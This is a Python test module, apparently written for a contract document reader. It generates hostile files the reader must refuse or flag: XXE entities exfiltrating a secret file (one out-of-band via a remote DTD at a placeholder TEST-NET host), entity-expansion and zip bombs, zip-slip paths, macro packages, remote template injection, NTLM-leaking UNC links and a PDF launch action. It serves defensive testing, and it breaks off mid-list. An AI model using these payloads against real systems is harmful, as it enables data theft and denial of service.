"""A hostile corpus, generated: one file per way a draft from the other side can attack the readers.

Every case names the file (its suffix picks the reader), what must happen (refused with words the
reason must contain, or opened with words the report must contain) and how to build it. XXE cases
point their entities at a secret file the test writes, so that a leak shows up as its token in
the output. The classes follow QUALITY.md's list of bad inputs.
"""

from __future__ import annotations

import enum
import io
import itertools
import os
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.unit.documents import pdfs

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
# Nothing listens there (TEST-NET-1, RFC 5737): a fetch would show as a network event, not data.
REMOTE = "http://192.0.2.1/x"
MIB = 1024 * 1024


class Expect(enum.Enum):
    """What the product must do with a case."""

    REFUSED = "refused"  # exit 2, one line on stderr naming the file and the reason
    OPENED = "opened"  # exit 0, a report


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile file: its name, the expected outcome and words that outcome must contain."""

    name: str
    expect: Expect
    says: str  # in the refusal reason, or in the report of an opened file
    build: Callable[[Path, Path], None]  # (target file, secret file)


# -- .docx packages


def _document(body: str, head: str = "") -> bytes:
    return (
        f'{_DECLARATION}{head}<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}'
        "</w:body></w:document>"
    ).encode()


def _para(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


_BODY = _para("1. The Provider shall not use Customer Data to train any model.")


def _types(*overrides: tuple[str, str], main: str = _MAIN_TYPE, head: str = "") -> bytes:
    entries = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        for name, kind in (("word/document.xml", main), *overrides)
    )
    return (
        f"{_DECLARATION}{head}"
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{entries}</Types>'
    ).encode()


_EXTERNAL = ' TargetMode="External"'


def _rels(*targets: tuple[str, str, bool], head: str = "") -> bytes:
    """A relationships part: (type, target, external) per relationship."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{kind if "/" in kind else _REL + kind}" '
        f'Target="{target}"{_EXTERNAL if external else ""}/>'
        for i, (kind, target, external) in enumerate(targets, 1)
    )
    return (
        f"{_DECLARATION}{head}"
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{items}</Relationships>"
    ).encode()


_PACKAGE_RELS = _rels(("officeDocument", "word/document.xml", False))

Parts = Iterable[tuple[str, bytes | Iterable[bytes]]]


class Stored(bytes):
    """A part stored uncompressed: a flood that no inflate-ratio check can see."""


def _zip(parts: Parts) -> bytes:
    """A zip of the parts in order; a part given as chunks is streamed (zip bombs stay small)."""
    buffer = io.BytesIO()
    # Level 1: bombs of zeros still inflate over 200-fold, and are written twice as fast.
    with (
        warnings.catch_warnings(),
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
    ):
        warnings.simplefilter("ignore")  # "Duplicate name": on purpose
        for name, content in parts:
            if isinstance(content, bytes):
                stored = isinstance(content, Stored)
                package.writestr(name, content, zipfile.ZIP_STORED if stored else None)
                continue
            with package.open(name, "w", force_zip64=True) as stream:
                for chunk in content:
                    stream.write(chunk)
    return buffer.getvalue()


def _docx(
    document: bytes | Iterable[bytes] | None = None,
    *extra: tuple[str, bytes | Iterable[bytes]],
    types: bytes | None = None,
    rels: bytes = _PACKAGE_RELS,
) -> bytes:
    """A minimal Word package: content types, package relationships, the body, extra parts."""
    return _zip(
        [
            ("[Content_Types].xml", types or _types()),
            ("_rels/.rels", rels),
            ("word/document.xml", _document(_BODY) if document is None else document),
            *extra,
        ]
    )


def _writes(data: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    def build(target: Path, secret: Path) -> None:
        target.write_bytes(data(secret))

    return build


def _fixed(data: Callable[[], bytes]) -> Callable[[Path, Path], None]:
    def build(target: Path, _secret: Path) -> None:
        target.write_bytes(data())

    return build


def _zeros(total: int) -> Iterable[bytes]:
    chunk = bytes(MIB)
    for _ in range(total // MIB):
        yield chunk


def _prose(size: int) -> str:
    """`size` characters of words."""
    sentence = "The Provider shall not use Customer Data except as this Agreement permits. "
    return (sentence * (size // len(sentence) + 1))[:size]


def _patch_entry(data: bytes, name: str, patch: Callable[[bytearray, int, bool], None]) -> bytes:
    """Rewrite header fields of one zip entry, in its local header and its central record."""
    out = bytearray(data)
    encoded = name.encode()
    for signature, name_at, central in ((b"PK\x03\x04", 30, False), (b"PK\x01\x02", 46, True)):
        at = out.find(signature)
        while at != -1:
            length = struct.unpack_from("<H", out, at + (28 if central else 26))[0]
            if out[at + name_at : at + name_at + length] == encoded:
                patch(out, at, central)
            at = out.find(signature, at + 4)
    return bytes(out)


def _xxe(secret: Path) -> str:
    return f'<!DOCTYPE w:document [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'


def xxe_document(secret: Path) -> bytes:
    """An external entity in the body pulls in a local file."""
    return _docx(_document(_para("Term: &leak;"), head=_xxe(secret)))


def _leak(xml: bytes, before: bytes) -> bytes:
    """The part with an entity reference as text in front of its first `before` element."""
    return xml.replace(before, b"&leak;" + before, 1)


def xxe_package_rels(secret: Path) -> bytes:
    """An external entity in the package relationships (read before the body)."""
    head = f'<!DOCTYPE Relationships [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
    return _docx(rels=_leak(_rels(("officeDocument", "word/document.xml", False), head=head),
                            b"<Relationship "))  # fmt: skip


def xxe_content_types(secret: Path) -> bytes:
    """An external entity in [Content_Types].xml."""
    head = f'<!DOCTYPE Types [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
    return _docx(types=_leak(_types(head=head), b"<Default "))


def xxe_parameter_entity(secret: Path) -> bytes:
    """The out-of-band form: parameter entities load the secret and a remote DTD that sends it."""
    head = (
        f'<!DOCTYPE w:document [<!ENTITY % file SYSTEM "{secret.as_uri()}">'
        f'<!ENTITY % dtd SYSTEM "{REMOTE}.dtd">%dtd;]>'
    )
    return _docx(_document(_para("&send;"), head=head))


def xxe_utf16(secret: Path) -> bytes:
    """The body in UTF-16, where a byte search for "<!DOCTYPE" finds nothing."""
    text = _document(_para("Term: &leak;"), head=_xxe(secret)).decode()
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return _docx(text.encode("utf-16"))


def xxe_styles(secret: Path) -> bytes:
    """An external entity in a secondary part (styles), read after the body."""
    styles = (
        f'{_DECLARATION}<!DOCTYPE w:styles [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
        f'<w:styles xmlns:w="{W_NS}"><w:style w:styleId="a"><w:name w:val="a"/></w:style>'
        "&leak;</w:styles>"
    ).encode()
    return _docx(
        None,
        ("word/styles.xml", styles),
        ("word/_rels/document.xml.rels", _rels(("styles", "styles.xml", False))),
    )


def xxe_document_rels(secret: Path) -> bytes:
    """An external entity in the body's relationships."""
    head = f'<!DOCTYPE Relationships [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
    rels = _leak(_rels(("styles", "styles.xml", False), head=head), b"<Relationship ")
    return _docx(None, ("word/_rels/document.xml.rels", rels))


def xxe_remote_dtd() -> bytes:
    """An external DTD on a web server: loading it would phone home."""
    return _docx(_document(_BODY, head=f'<!DOCTYPE w:document SYSTEM "{REMOTE}.dtd">'))


def billion_laughs() -> bytes:
    """Ten levels of ten references each: 10^9 copies of "lol"."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    head = f"<!DOCTYPE w:document [{''.join(entities)}]>"
    return _docx(_document(_para("&lol9;"), head=head))


def quadratic_blowup() -> bytes:
    """One 50 KB entity referenced 50,000 times: 2.5 GB of text without any nesting."""
    head = f'<!DOCTYPE w:document [<!ENTITY a "{"a" * 50_000}">]>'
    return _docx(_document(_para("&a;" * 50_000), head=head))


# -- zip bombs


def _picture(reference: str) -> str:
    """A paragraph showing a picture: r:embed="rId1" for a part, r:link="rId1" for a link."""
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.'
        'openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.'
        'openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.'
        f'openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip {reference}="rId1"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


_TAIL = b"</w:body></w:document>"


def _streamed(chunks: Iterable[bytes]) -> Iterator[bytes]:
    """A body written in chunks, so a flood never sits in memory whole."""
    yield _document("")[: -len(_TAIL)]
    yield from chunks
    yield _TAIL


def bomb_document() -> bytes:
    """The body itself inflates to 65 MiB."""
    return _docx(_zeros(65 * MIB))


def bomb_referenced_image() -> bytes:
    """A 65 MiB picture the body shows (python-docx would inflate it)."""
    return _docx(
        _document(_BODY + _picture("r:embed")),
        ("word/_rels/document.xml.rels", _rels(("image", "media/image1.png", False))),
        ("word/media/image1.png", _zeros(65 * MIB)),
    )


def bomb_unreferenced() -> bytes:
    """A 65 MiB part nothing refers to."""
    return _docx(None, ("customXml/filler.bin", _zeros(65 * MIB)))


def bomb_ratio() -> bytes:
    """A 32 MiB body (under the part cap) of padding that compresses a thousandfold."""
    return _docx(_streamed(itertools.chain([_BODY.encode()], (b" " * MIB for _ in range(32)))))


def bomb_total() -> bytes:
    """65 parts of 4 MiB, each small enough to escape the ratio check: 260 MiB in all."""
    parts = [(f"customXml/filler{i}.bin", _zeros(4 * MIB)) for i in range(65)]
    return _docx(None, *parts)


def bomb_lying_size() -> bytes:
    """The body's zip header declares 1 KiB; its data inflates to 8 MiB."""
    data = _docx(_document(_BODY + _para(" " * (8 * MIB))))

    def shrink(out: bytearray, at: int, central: bool) -> None:
        struct.pack_into("<I", out, at + (24 if central else 22), 1024)

    return _patch_entry(data, "word/document.xml", shrink)


def bomb_entries() -> bytes:
    """1,500 tiny entries."""
    return _docx(None, *((f"customXml/item{i}.xml", b"<a/>") for i in range(1_500)))


# -- floods, huge runs, nesting


def flood_empty_paragraphs() -> bytes:
    """QUALITY.md's flood: 3 million empty paragraphs, 18 MB that zip to a few kilobytes."""
    return _docx(_streamed(b"<w:p/>" * 100_000 for _ in range(30)))


def flood_elements() -> bytes:
    """2.1 million empty paragraphs stored uncompressed, where no inflate-ratio check sees them."""
    return _docx(Stored(_document("<w:p/>" * 2_100_000)))


def flood_paragraphs() -> bytes:
    """250,000 paragraphs, stored: fewer elements than the element cap, more paragraphs."""
    return _docx(Stored(_document("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 250_000)))


def huge_run() -> bytes:
    """One run of 9 MB of words, just under libxml2's 10 MB text-node limit."""
    return _docx(Stored(_document(_para(_prose(9_000_000)))))


def huge_text_node() -> bytes:
    """One run of 12 MB, past libxml2's text-node limit."""
    return _docx(Stored(_document(_para(_prose(12_000_000)))))


def huge_table_row() -> bytes:
    """A table row of 40 cells of 30,000 characters: each cell modest, the row a 1.2 MB clause."""
    cells = f"<w:tc>{_para(_prose(30_000))}</w:tc>" * 40
    return _docx(_document(f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>{_BODY}"))


def huge_line(_secret: Path) -> bytes:
    """A .txt of one 9 MB line."""
    return _prose(9_000_000).encode()


def deep_nesting() -> bytes:
    """100,000 nested insertions."""
    return _docx(_document(f"<w:p>{'<w:ins>' * 100_000}{'</w:ins>' * 100_000}</w:p>"))


def nesting_at_limit() -> bytes:
    """Nesting just inside libxml2's depth limit: revisions, tables, content controls."""
    opening = '<w:ins w:id="1" w:author="x">'
    revisions = f"{opening * 240}<w:r><w:t>deep revision text</w:t></w:r>{'</w:ins>' * 240}"
    table = _para("deep table text")
    for _ in range(80):
        table = f"<w:tbl><w:tr><w:tc>{table}</w:tc></w:tr></w:tbl>"
    control = _para("deep control text")
    for _ in range(120):
        control = f"<w:sdt><w:sdtContent>{control}</w:sdtContent></w:sdt>"
    return _docx(_document(f"<w:p>{revisions}</w:p>{table}<w:p/>{control}"))


def _numbered(level: str, paragraphs: int) -> bytes:
    numbering = (
        f'{_DECLARATION}<w:numbering xmlns:w="{W_NS}"><w:abstractNum w:abstractNumId="0">'
        f'<w:lvl w:ilvl="0">{level}</w:lvl></w:abstractNum><w:num w:numId="1">'
        '<w:abstractNumId w:val="0"/></w:num></w:numbering>'
    ).encode()
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>Licensee shall not resell the Service.</w:t></w:r></w:p>"
    )
    return _docx(
        _document(item * paragraphs),
        ("word/numbering.xml", numbering),
        ("word/_rels/document.xml.rels", _rels(("numbering", "numbering.xml", False))),
    )


def numbering_letters() -> bytes:
    """A letter-numbered list starting at 2,000,000,000: "zzz..." labels of 77 million letters."""
    return _numbered(
        '<w:start w:val="2000000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1."/>', 50
    )


def numbering_level_text() -> bytes:
    """A list label pattern of one megabyte, repeated on 1,000 paragraphs."""
    return _numbered(f'<w:numFmt w:val="decimal"/><w:lvlText w:val="{"%1" * 500_000}"/>', 1_000)


def numbering_huge_start() -> bytes:
    """A list starting at a 4,000-digit number."""
    return _numbered(f'<w:start w:val="{"9" * 4_000}"/><w:lvlText w:val="%1."/>', 1_000)


# -- names, structure, macros, containers


def zip_slip() -> bytes:
    """An entry that would be written outside the folder it is unpacked into."""
    return _docx(None, ("../../../../tmp/redline-evil.txt", b"pwned"))


def zip_absolute() -> bytes:
    """An entry with an absolute Windows path."""
    return _docx(None, ("C:/Windows/Temp/evil.txt", b"pwned"))


def duplicate_entry() -> bytes:
    """Two bodies: python-docx silently takes the last, Word the first."""
    hidden = _document(_para("The Provider may use Customer Data for any lawful purpose."))
    return _docx(None, ("word/document.xml", hidden))


def rels_escape() -> bytes:
    """An internal relationship whose target climbs out of the package."""
    return _docx(
        None, ("word/_rels/document.xml.rels", _rels(("styles", "../../../etc/passwd", False)))
    )


def macro_content_type() -> bytes:
    """A .docm renamed .docx: macro-enabled main part plus a VBA project."""
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    vba = "application/vnd.ms-office.vbaProject"
    return _docx(
        None,
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
        types=_types(("word/vbaProject.bin", vba), main=macro),
    )


def macro_part() -> bytes:
    """A VBA project inside a package that calls itself a plain .docx."""
    vba = "application/vnd.ms-office.vbaProject"
    return _docx(
        None,
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
        ("word/_rels/document.xml.rels", _rels(("vbaProject", "vbaProject.bin", False))),
        types=_types(("word/vbaProject.bin", vba)),
    )


def _ole(*streams: str) -> bytes:
    """A compound-file (OLE/CFB) header and a directory sector naming the given streams."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 24, 0x3E, 3, 0xFFFE)
    directory = bytearray()
    for name in ("Root Entry", *streams):
        entry = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        entry[: len(encoded)] = encoded
        struct.pack_into("<H", entry, 64, len(encoded))
        directory += entry
    return bytes(header + directory.ljust(512, b"\0"))


def encrypted() -> bytes:
    """What Word writes for a password-protected .docx: an OLE container, not a zip."""
    return _ole("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces")


def legacy_doc() -> bytes:
    """A Word 97-2003 .doc renamed .docx."""
    return _ole("WordDocument", "1Table", "\x05SummaryInformation")


def zip_encrypted_flag() -> bytes:
    """Entries flagged as encrypted with the legacy zip password scheme."""

    def flag(out: bytearray, at: int, central: bool) -> None:
        offset = at + (8 if central else 6)
        struct.pack_into("<H", out, offset, struct.unpack_from("<H", out, offset)[0] | 1)

    return _patch_entry(_docx(), "word/document.xml", flag)


def unsupported_compression() -> bytes:
    """The body compressed with a method zipfile does not implement (PPMd, 98)."""

    def method(out: bytearray, at: int, central: bool) -> None:
        struct.pack_into("<H", out, at + (10 if central else 8), 98)

    return _patch_entry(_docx(), "word/document.xml", method)


# -- damage


def truncated() -> bytes:
    """A real package cut in half (an interrupted download)."""
    data = _docx(_document(_BODY * 200))
    return data[: len(data) // 2]


def not_a_zip() -> bytes:
    """Random bytes with a .docx name."""
    return random.Random(16).randbytes(4096)


def wrong_content_type() -> bytes:
    """The main part declares itself a spreadsheet."""
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return _docx(types=_types(main=sheet))


def no_document_part() -> bytes:
    """A zip of something else entirely."""
    return _zip([("readme.txt", b"not a Word document"), ("data/x.bin", bytes(100))])


def malformed_xml() -> bytes:
    """A body whose tags do not close."""
    return _docx(_document(_BODY)[:-30] + b"<w:p><w:r><w:t>unclosed")


def invalid_utf8() -> bytes:
    """A body declaring UTF-8 that holds bytes UTF-8 forbids."""
    return _docx(_document(_para("The Provider shall XX not")).replace(b"XX", b"\xff\xfe"))


def strict_ooxml() -> bytes:
    """Strict Open XML (ISO 29500 strict namespaces), which the reader does not support."""
    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
    return _docx(rels=_rels((strict, "word/document.xml", False)))


# -- files that open, with notes

HIDDEN = "Provider may sell Customer Data"


def hidden_text() -> bytes:
    """A clause in hidden (w:vanish) text: never read as agreed, but reported as present."""
    hidden = (
        f'<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t xml:space="preserve">{HIDDEN}. </w:t></w:r>'
        "<w:r><w:t>Fees are due monthly.</w:t></w:r></w:p>"
    )
    return _docx(_document(_BODY + hidden))


def _settings_with_template(target: str) -> bytes:
    settings = (
        f'{_DECLARATION}<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    ).encode()
    return _docx(
        None,
        ("word/_rels/document.xml.rels", _rels(("settings", "settings.xml", False))),
        ("word/settings.xml", settings),
        ("word/_rels/settings.xml.rels", _rels(("attachedTemplate", target, True))),
    )


def remote_template() -> bytes:
    """Remote template injection (MITRE ATT&CK T1221): Word fetches it on open."""
    return _settings_with_template(f"{REMOTE}/template.dotm")


def local_file_template(secret: Path) -> bytes:
    """An attached template pointing at the secret file: it must not even be opened."""
    return _settings_with_template(secret.as_uri())


def linked_resources(secret: Path) -> bytes:
    """A UNC-path picture (leaks NTLM hashes on Windows) and a file:// hyperlink to the secret."""
    link = '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>see annex</w:t></w:r></w:hyperlink></w:p>'
    return _docx(
        _document(_BODY + link + _picture("r:link")),
        (
            "word/_rels/document.xml.rels",
            _rels(
                ("image", r"\\192.0.2.1\share\logo.png", True),
                ("hyperlink", secret.as_uri(), True),
            ),
        ),
    )


# -- PDF


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF with the given objects (1 is the catalogue), a cross-reference table and trailer."""
    return pdfs.assemble(objects, 1, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(data, 1)
    return b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n%s\nendstream" % (
        len(packed),
        extra,
        packed,
    )


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 72 720 Td (The Provider shall not use Customer Data.) Tj ET"


def _one_page(content: bytes, resources: bytes = b"", catalogue: bytes = b"") -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> %s>> >>" % resources,
            _stream(content),
            _FONT,
        ]
    )


def pdf_flate_bomb() -> bytes:
    """A page whose content stream inflates to 70 MB (pypdf's cap is 75 MB)."""
    return _one_page(b" " * 70_000_000)


def pdf_operator_flood() -> bytes:
    """A page of 90,000 drawing operations in 540 KB (zipped to a few KB)."""
    return _one_page(_TEXT + b" 0 0 m" * 90_000)


def pdf_form_amplification() -> bytes:
    """One 30,000-operation form drawn 5,000 times on a page: 150 million operations."""
    form = _stream(
        b"0 0 m " * 30_000,
        b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /Font << /F1 5 0 R >> >> ",
    )
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> >>",
            _stream(_TEXT + b" /Fm1 Do" * 5_000),
            _FONT,
            form,
        ]
    )


def pdf_page_flood() -> bytes:
    """A page tree listing one page 6,000 times."""
    kids = b"3 0 R " * 6_000
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count 6000 >>" % kids,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(_TEXT),
            _FONT,
        ]
    )


def pdf_cyclic_pages() -> bytes:
    """A page tree that contains itself."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            _stream(_TEXT),
        ]
    )


def pdf_deep_nesting() -> bytes:
    """100,000 nested arrays in the catalogue."""
    return _one_page(_TEXT, catalogue=b"/Junk %s%s " % (b"[" * 100_000, b"]" * 100_000))


def pdf_malformed() -> bytes:
    """A PDF header followed by junk."""
    return b"%PDF-1.7\n" + random.Random(17).randbytes(20_000)


def pdf_truncated() -> bytes:
    """A PDF cut off before its cross-reference table."""
    data = _one_page(_TEXT)
    return data[: data.index(b"xref")]


def pdf_no_text() -> bytes:
    """A page that draws nothing: a scan without OCR looks like this to a text reader."""
    return _one_page(b"0 0 m 100 100 l S")


def pdf_actions() -> bytes:
    """An open action that would fetch a URL and launch a program: a reader ignores both."""
    actions = (
        b"/OpenAction << /S /URI /URI (%s) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> "
        % REMOTE.encode()
    )
    return _one_page(_TEXT, catalogue=actions)


def pdf_xmp_xxe(secret: Path) -> bytes:
    """XMP metadata carrying an external entity to the secret file."""
    xmp = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        '22-rdf-syntax-ns#"><rdf:Description>&leak;</rdf:Description></rdf:RDF></x:xmpmeta>'
    ).encode()
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(_TEXT),
            _FONT,
            b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream"
            % (len(xmp), xmp),
        ]
    )


# -- text


def binary_text() -> bytes:
    """Random bytes, NULs included, named .txt."""
    return b"\x00" + random.Random(18).randbytes(8192)


def invalid_utf8_text() -> bytes:
    """Latin-1 bytes in a file read as UTF-8."""
    return b"1. The Licensee shall not use the Software.\n\n2. Fees: 100 \xe9 per user.\n"


def lone_surrogate_text() -> bytes:
    """A UTF-16 surrogate encoded on its own (CESU-8), which UTF-8 forbids."""
    return b"1. The Licensee shall not \xed\xa0\x80 use the Software.\n"


def utf16_text() -> bytes:
    """UTF-16 text with its byte-order mark."""
    return "1. The Licensee shall not use the Software.\n".encode("utf-16")


# -- not regular files


def fifo(target: Path, _secret: Path) -> None:
    """A named pipe: reading it would block forever."""
    os.mkfifo(target)


def folder(target: Path, _secret: Path) -> None:
    """A folder with a .docx name."""
    target.mkdir()
    (target / "word").mkdir()


def device(target: Path, _secret: Path) -> None:
    """A link to /dev/zero: endless bytes."""
    target.symlink_to("/dev/zero")


REFUSED, OPENED = Expect.REFUSED, Expect.OPENED
DOCTYPE = "DOCTYPE/ENTITY declaration"
CASES: tuple[Case, ...] = (
    # XXE and entity expansion
    Case("xxe-document.docx", REFUSED, DOCTYPE, _writes(xxe_document)),
    Case("xxe-package-rels.docx", REFUSED, DOCTYPE, _writes(xxe_package_rels)),
    Case("xxe-content-types.docx", REFUSED, DOCTYPE, _writes(xxe_content_types)),
    Case("xxe-parameter-entity.docx", REFUSED, DOCTYPE, _writes(xxe_parameter_entity)),
    Case("xxe-utf16.docx", REFUSED, DOCTYPE, _writes(xxe_utf16)),
    Case("xxe-styles.docx", REFUSED, DOCTYPE, _writes(xxe_styles)),
    Case("xxe-document-rels.docx", REFUSED, DOCTYPE, _writes(xxe_document_rels)),
    Case("xxe-remote-dtd.docx", REFUSED, DOCTYPE, _fixed(xxe_remote_dtd)),
    Case("billion-laughs.docx", REFUSED, DOCTYPE, _fixed(billion_laughs)),
    Case("quadratic-blowup.docx", REFUSED, DOCTYPE, _fixed(quadratic_blowup)),
    # zip bombs
    Case("bomb-document.docx", REFUSED, "inflates to 65 MiB", _fixed(bomb_document)),
    Case(
        "bomb-referenced-image.docx", REFUSED, "inflates to 65 MiB", _fixed(bomb_referenced_image)
    ),
    Case("bomb-unreferenced.docx", REFUSED, "inflates to 65 MiB", _fixed(bomb_unreferenced)),
    Case("bomb-ratio.docx", REFUSED, "compressed suspiciously well", _fixed(bomb_ratio)),
    Case("bomb-total.docx", REFUSED, "inflates to 260 MiB", _fixed(bomb_total)),
    Case("bomb-lying-size.docx", REFUSED, "word/document.xml", _fixed(bomb_lying_size)),
    Case("bomb-entries.docx", REFUSED, "entries", _fixed(bomb_entries)),
    # floods, huge runs, nesting
    Case("flood-3m-empty-paragraphs.docx", REFUSED, "zip bomb", _fixed(flood_empty_paragraphs)),
    Case("flood-elements.docx", REFUSED, "XML elements", _fixed(flood_elements)),
    Case("flood-paragraphs.docx", REFUSED, "250,000 paragraphs", _fixed(flood_paragraphs)),
    Case("huge-run.docx", REFUSED, "characters", _fixed(huge_run)),
    Case("huge-text-node.docx", REFUSED, "not well-formed", _fixed(huge_text_node)),
    Case("huge-table-row.docx", REFUSED, "table row", _fixed(huge_table_row)),
    Case("huge-line.txt", REFUSED, "characters", _writes(huge_line)),
    Case("deep-nesting.docx", REFUSED, "not well-formed", _fixed(deep_nesting)),
    Case("nesting-at-limit.docx", OPENED, "deep control text", _fixed(nesting_at_limit)),
    Case("numbering-letters.docx", OPENED, "resell", _fixed(numbering_letters)),
    Case("numbering-level-text.docx", OPENED, "resell", _fixed(numbering_level_text)),
    Case("numbering-huge-start.docx", OPENED, "resell", _fixed(numbering_huge_start)),
    # names, structure, macros, containers
    Case("zip-slip.docx", REFUSED, "unsafe entry name", _fixed(zip_slip)),
    Case("zip-absolute-path.docx", REFUSED, "unsafe entry name", _fixed(zip_absolute)),
    Case("duplicate-entry.docx", REFUSED, "twice", _fixed(duplicate_entry)),
    Case("rels-escape.docx", REFUSED, "outside the package", _fixed(rels_escape)),
    Case("macro-content-type.docx", REFUSED, "macro-enabled", _fixed(macro_content_type)),
    Case("macro-part.docx", REFUSED, "macro", _fixed(macro_part)),
    Case("encrypted.docx", REFUSED, "password-protected", _fixed(encrypted)),
    Case("legacy-doc.docx", REFUSED, "legacy Word 97-2003", _fixed(legacy_doc)),
    Case("zip-encrypted-flag.docx", REFUSED, "password-protected", _fixed(zip_encrypted_flag)),
    Case("unsupported-compression.docx", REFUSED, "damaged", _fixed(unsupported_compression)),
    # damage
    Case("truncated.docx", REFUSED, "damaged or truncated", _fixed(truncated)),
    Case("empty.docx", REFUSED, "empty", _fixed(lambda: b"")),
    Case("not-a-zip.docx", REFUSED, "not a zip package", _fixed(not_a_zip)),
    Case("wrong-content-type.docx", REFUSED, "Excel workbook", _fixed(wrong_content_type)),
    Case("no-document-part.docx", REFUSED, "no Word document part", _fixed(no_document_part)),
    Case("malformed-xml.docx", REFUSED, "not well-formed", _fixed(malformed_xml)),
    Case("invalid-utf8.docx", REFUSED, "not well-formed", _fixed(invalid_utf8)),
    Case("strict-ooxml.docx", REFUSED, "Strict Open XML", _fixed(strict_ooxml)),
    # opens, with what it holds listed
    Case("hidden-text.docx", OPENED, "hidden text", _fixed(hidden_text)),
    Case("remote-template.docx", OPENED, "external template link", _fixed(remote_template)),
    Case(
        "local-file-template.docx", OPENED, "external template link", _writes(local_file_template)
    ),
    Case("linked-resources.docx", OPENED, "linked image", _writes(linked_resources)),
    # PDF
